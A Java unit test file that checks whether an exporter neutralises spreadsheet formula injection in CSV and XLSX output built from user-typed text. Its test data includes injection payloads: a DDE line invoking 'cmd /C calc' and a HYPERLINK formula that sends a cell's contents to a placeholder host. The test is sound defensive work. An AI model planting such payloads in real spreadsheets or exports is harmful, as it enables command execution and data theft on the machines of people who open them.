package org.parledger.query.sheet;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.math.BigDecimal;
import java.util.Arrays;
import java.util.Base64;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** What a spreadsheet makes of an exported table whose text was typed by people. */
class TablesTest {
    private static final List<String> TYPED = List.of("=HYPERLINK(\"http://example.test/?\"&A1,\"Xem\")", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\tTab", "-", "Thiếu phụ lục, trừ 0,5", "12/QĐ-UBND", "-0.50", "+1", "");

    private static Tables table() {
        return new Tables(List.of(List.of("Reason", "Change"),
                Arrays.asList(TYPED.toArray()), List.of("", new BigDecimal("-0.50"))));
    }

    @Test
    void aCsvCellThatASpreadsheetWouldRunAsAFormulaIsKeptAsText() throws Exception {
        List<CSVRecord> records = CSVFormat.DEFAULT.parse(new StringReader(table().as(Tables.Format.CSV, "t", 0).substring(1))).getRecords();
        assertThat(records.get(1).toList()).containsExactly("'=HYPERLINK(\"http://example.test/?\"&A1,\"Xem\")", "'+cmd|' /C calc'!A0",
                "'-2+3+cmd|' /C calc'!A0", "'@SUM(A1:A9)", "'\tTab", "'-", "Thiếu phụ lục, trừ 0,5", "12/QĐ-UBND", "-0.50", "+1", "");
        // A number is written as it is.
        assertThat(records.get(2).get(1)).isEqualTo("-0.50");
    }

    @Test
    void anXlsxCellIsTypedTextAsItWasTyped() throws Exception {
        byte[] workbook = Base64.getDecoder().decode(table().as(Tables.Format.XLSX, "t", 0));
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(workbook))) {
            Row row = book.getSheetAt(0).getRow(1);
            for (int c = 0; c < TYPED.size(); c++) {
                if (TYPED.get(c).isEmpty()) continue;
                assertThat(row.getCell(c).getCellType()).as(TYPED.get(c)).isEqualTo(CellType.STRING);
                assertThat(row.getCell(c).getStringCellValue()).isEqualTo(TYPED.get(c));
            }
            assertThat(book.getSheetAt(0).getRow(2).getCell(1).getNumericCellValue()).isEqualTo(-0.5);
        }
    }
}
